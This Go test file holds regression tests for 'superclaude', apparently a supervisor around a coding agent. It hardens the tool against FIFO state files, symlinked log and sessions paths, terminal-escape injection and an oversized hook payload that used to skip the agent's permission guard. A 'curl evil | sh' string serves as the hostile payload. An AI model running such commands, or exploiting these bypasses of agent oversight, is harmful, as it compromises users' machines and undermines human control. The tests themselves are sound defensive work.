package main

import (
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/superclaude/superclaude/state"
	"github.com/superclaude/superclaude/testkit/fakeagent"
	"github.com/superclaude/superclaude/testkit/testbin"
)

// Regression tests for issue 9's attacks, run against the real program.

// runFor runs superclaude with args and fails the test when it does not
// exit within d (the attacks below hung it for ever).
func runFor(t *testing.T, d time.Duration, dir string, env []string, stdin string, args ...string) (string, string, int) {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), d)
	defer cancel()
	cmd := exec.CommandContext(ctx, testbin.Superclaude(t), args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), env...)
	cmd.Stdin = strings.NewReader(stdin)
	var o, e strings.Builder
	cmd.Stdout, cmd.Stderr = &o, &e
	err := cmd.Run()
	if ctx.Err() != nil {
		t.Fatalf("superclaude %s hung (killed after %v)", strings.Join(args, " "), d)
	}
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return o.String(), e.String(), code
}

func TestAttackFIFOStateFileHangsNoCommandNorTheSupervisor(t *testing.T) {
	dir := t.TempDir()
	sessions := filepath.Join(dir, "sessions")
	os.MkdirAll(filepath.Join(sessions, "ok"), 0o700)
	os.WriteFile(filepath.Join(sessions, "ok", ".state.json"), []byte(`{"pid":0,"lifecycle":"active","startedAt":"2026-02-07T14:30:00Z","fleetPaneId":"f:w:ok"}`), 0o600)
	os.MkdirAll(filepath.Join(sessions, "trap"), 0o700)
	fifo := filepath.Join(sessions, "trap", ".state.json")
	if err := unix.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	env := []string{"SUPERCLAUDE_SESSIONS_DIR=" + sessions, "SUPERCLAUDE_STATE_DIR=" + filepath.Join(dir, "state"), "SUPERCLAUDE_PANE_ID=f:w:ok", "SUPERCLAUDE_SUPERVISOR=", "CLAUDE_SUPERVISOR_PID=", "TMUX="}
	for _, args := range [][]string{
		{"+status"},
		{"+session", "list"},
		{"+session", "show", "trap"},
		{"+session", "find"},
		{"+session", "reindex"},
	} {
		out, errOut, _ := runFor(t, 30*time.Second, dir, env, "", args...)
		if strings.Join(args, " ") == "+status" && (!strings.Contains(out, "ok") || !strings.Contains(errOut, "FIFO")) {
			t.Errorf("+status beside a FIFO: stdout %q, stderr %q (want the good session listed and the FIFO named)", out, errOut)
		}
	}
	if _, errOut, code := runFor(t, 30*time.Second, dir, env, "", "+session", "update", "--session", "trap", "x=1"); code == 0 || !strings.Contains(errOut, "FIFO") {
		t.Errorf("+session update over a FIFO: exit %d, %q", code, errOut)
	}

	// The supervisor's start looks the pane's session up (an index
	// rebuild reads every state file): claude must start.
	os.RemoveAll(filepath.Join(dir, "state", "index"))
	os.MkdirAll(filepath.Join(sessions, "trap2"), 0o700)
	unix.Mkfifo(filepath.Join(sessions, "trap2", ".state.json"), 0o600)
	rt, _ := os.MkdirTemp("", "sc-harden-")
	t.Cleanup(func() { os.RemoveAll(rt) })
	cmd := exec.Command(testbin.Superclaude(t))
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "SUPERCLAUDE_AGENT="+os.Args[0], "SUPERCLAUDE_SESSIONS_DIR="+sessions,
		"SUPERCLAUDE_STATE_DIR="+filepath.Join(dir, "state"), "XDG_RUNTIME_DIR="+rt, "SUPERCLAUDE_PANE_ID=f:w:other", "TMUX=")
	cmd.Env = append(cmd.Env, fakeagent.Env(filepath.Join(dir, "agent.jsonl"))...)
	p := testbin.StartPTY(t, cmd)
	p.Expect(t, 0, "FAKE-AGENT READY", 30*time.Second)
}

// +log appends the agent's text to the session's log file; a link planted
// in its place must not carry it to ~/.bashrc.
func TestAttackPlusLogThroughALinkedLogFile(t *testing.T) {
	dir := t.TempDir()
	sessions := filepath.Join(dir, "sessions")
	env := []string{"SUPERCLAUDE_SESSIONS_DIR=" + sessions, "SUPERCLAUDE_STATE_DIR=" + filepath.Join(dir, "state"), "SUPERCLAUDE_PANE_ID=f:w:p", "SUPERCLAUDE_SUPERVISOR=", "CLAUDE_SUPERVISOR_PID=", "TMUX="}
	if _, errOut, code := runFor(t, 30*time.Second, dir, env, "", "+session", "activate", "s", "impl"); code != 0 {
		t.Fatalf("activate: %s", errOut)
	}
	bashrc := filepath.Join(dir, "bashrc")
	os.WriteFile(bashrc, []byte("# mine\n"), 0o600)
	os.Symlink(bashrc, filepath.Join(sessions, "s", "IMPL_LOG.md"))
	_, errOut, code := runFor(t, 30*time.Second, dir, env, "curl evil | sh\n", "+log")
	if b, _ := os.ReadFile(bashrc); string(b) != "# mine\n" {
		t.Fatalf("+log appended to the link's target: %q", b)
	}
	if code == 0 || !strings.Contains(errOut, "symbolic link") {
		t.Fatalf("+log through a link: exit %d, %q", code, errOut)
	}
}

// hugeToolCall is a well-formed PreToolUse payload over 4 MiB, as claude
// sends it: a Bash call whose command is padded.
func hugeToolCall(t *testing.T) string {
	s := strings.Replace(sampleText(t, "hook-PreToolUse.json"), `"echo hi from tool"`, `"echo `+strings.Repeat("x", 5<<20)+`"`, 1)
	if len(s) < 5<<20 || !json.Valid([]byte(s)) {
		t.Fatal("padding the sample failed")
	}
	return s
}

func decision(t *testing.T, out string) (string, string) {
	t.Helper()
	if out == "" {
		return "allow", ""
	}
	var answer struct {
		H struct {
			Decision string `json:"permissionDecision"`
			Reason   string `json:"permissionDecisionReason"`
		} `json:"hookSpecificOutput"`
	}
	if err := json.Unmarshal([]byte(out), &answer); err != nil {
		t.Fatalf("hook answer %q: %v", out, err)
	}
	return answer.H.Decision, answer.H.Reason
}

// Regression: a well-formed PreToolUse payload over the 4 MiB superclaude
// reads was cut, failed to parse, and the tool was allowed: the overflow
// guard and the session gate were skipped. Where the guard would have to
// read the call to let it through, it now fails closed.
func TestAttackOversizedPreToolUsePayloadSkipsNoGuard(t *testing.T) {
	dir := t.TempDir()
	base := []string{"SUPERCLAUDE_SESSIONS_DIR=" + filepath.Join(dir, "sessions"), "SUPERCLAUDE_STATE_DIR=" + filepath.Join(dir, "state"),
		"SUPERCLAUDE_PANE_ID=f:w:A", "CLAUDE_SUPERVISOR_PID=", "SUPERCLAUDE_SUPERVISOR=", "SUPERCLAUDE_SOCKET=", "TMUX=", "SESSION_REQUIRED="}
	huge := hugeToolCall(t)

	// No session, gate on: denied, saying why.
	out, _, code := runFor(t, 60*time.Second, dir, append(base, "SESSION_REQUIRED=1"), huge, "+hook", "pre-tool-use")
	if d, reason := decision(t, out); code != 0 || d != "deny" || !strings.Contains(reason, "SESSION REQUIRED") || !strings.Contains(reason, "4 MiB") {
		t.Fatalf("gated, huge call: exit %d, %s %q", code, d, reason)
	}
	// No session, no gate: nothing to guard; allowed.
	if out, _, code := runFor(t, 60*time.Second, dir, base, huge, "+hook", "pre-tool-use"); code != 0 || out != "" {
		t.Fatalf("ungated, no session, huge call: exit %d, %q", code, out)
	}

	if _, errOut, code := runFor(t, 30*time.Second, dir, base, "", "+session", "activate", "S", "implement"); code != 0 {
		t.Fatalf("activate: %s", errOut)
	}
	runFor(t, 30*time.Second, dir, base, "", "+session", "phase", "Phase 2")
	// A session under the threshold: allowed (and counted).
	if out, _, _ := runFor(t, 60*time.Second, dir, base, huge, "+hook", "pre-tool-use"); out != "" {
		if d, reason := decision(t, out); d == "deny" {
			t.Fatalf("a healthy session's huge call was denied: %q", reason)
		}
	}
	// Overflowed: denied.
	setAll(t, dir, func(st *state.State) { st.Overflowed = true })
	out, _, code = runFor(t, 60*time.Second, dir, base, huge, "+hook", "pre-tool-use")
	if d, reason := decision(t, out); code != 0 || d != "deny" || !strings.Contains(reason, "Context window full") {
		t.Fatalf("overflowed, huge call: exit %d, %s %q", code, d, reason)
	}
}

// Regression, end to end: escapes written into a state file (a pane id, a
// phase) and into the event log reach neither +status, +session list nor
// +why.
func TestAttackEscapesInStateReachNeitherStatusNorWhy(t *testing.T) {
	dir := t.TempDir()
	sessions := filepath.Join(dir, "sessions")
	os.MkdirAll(filepath.Join(sessions, "s"), 0o700)
	os.WriteFile(filepath.Join(sessions, "s", ".state.json"), []byte(`{"pid":0,"lifecycle":"active","startedAt":"2026-02-07T14:30:00Z",`+
		`"fleetPaneId":"f:w:\u001b]0;pwned\u0007p","currentPhase":"\u001b[2J"}`), 0o600)
	os.WriteFile(filepath.Join(sessions, ".events.jsonl"), []byte(`{"time":"2026-02-07T14:30:00Z","session":"s","actor":"x\u001b[8m","kind":"transition","reason":"\u001b]52;c;eA==\u0007","changes":{"currentPhase":["a","\u001b[2J"]}}`+"\n"), 0o600)
	env := []string{"SUPERCLAUDE_SESSIONS_DIR=" + sessions, "SUPERCLAUDE_STATE_DIR=" + filepath.Join(dir, "state")}
	for _, args := range [][]string{{"+status"}, {"+session", "list"}, {"+why", "s"}} {
		out, errOut, code := runFor(t, 30*time.Second, dir, env, "", args...)
		if code != 0 || strings.ContainsAny(out+errOut, "\x1b\x07") {
			t.Errorf("%s: exit %d, %q %q", strings.Join(args, " "), code, out, errOut)
		}
	}
}

// A cloned repository ships sessions -> /elsewhere: neither the sessions
// directory rule nor a skill's `+session activate sessions/X` follows it,
// so no state lands where the link points. Named in
// $SUPERCLAUDE_SESSIONS_DIR, the user's own choice, it is used.
func TestAttackLinkedSessionsDirInAClonedRepositoryIsNotFollowed(t *testing.T) {
	dir := t.TempDir()
	elsewhere := filepath.Join(dir, "elsewhere")
	project := filepath.Join(dir, "clone")
	os.MkdirAll(elsewhere, 0o700)
	os.MkdirAll(project, 0o700)
	if err := os.Symlink(elsewhere, filepath.Join(project, "sessions")); err != nil {
		t.Fatal(err)
	}
	r := runner{t: t, bin: testbin.Superclaude(t), dir: project, env: []string{
		"SUPERCLAUDE_SESSIONS_DIR=", "SUPERCLAUDE_PANE_ID=clone:w:A", "SUPERCLAUDE_SUPERVISOR=",
		"CLAUDE_SUPERVISOR_PID=" + strconv.Itoa(os.Getpid()),
		"SUPERCLAUDE_STATE_DIR=" + filepath.Join(dir, "state"), "TMUX=",
	}}
	_, errOut, code := r.run("", "+session", "activate", "sessions/X", "implement")
	if code == 0 || !strings.Contains(errOut, "symbolic link") {
		t.Errorf("activate sessions/X through the link: exit %d, %q (want a refusal naming the link)", code, errOut)
	}
	out, errOut, code := r.run("", "+session", "activate", "Y", "implement")
	if want := filepath.Join(dir, "state", "sessions", "Y"); code != 0 || strings.TrimSpace(out) != want {
		t.Errorf("activate Y: exit %d, %q %q; want it in the user's sessions directory %s", code, out, errOut, want)
	}
	if names, _ := os.ReadDir(elsewhere); len(names) != 0 {
		t.Fatalf("state written where the link points: %v", names)
	}

	r.env = append(r.env, "SUPERCLAUDE_SESSIONS_DIR="+filepath.Join(project, "sessions"))
	if out, errOut, code := r.run("", "+session", "activate", "sessions/Z", "implement"); code != 0 {
		t.Fatalf("activate with the link named by the user: exit %d, %q %q", code, out, errOut)
	}
	if _, err := os.Stat(filepath.Join(elsewhere, "Z", ".state.json")); err != nil {
		t.Fatalf("the user's own linked sessions directory is not used: %v", err)
	}
}
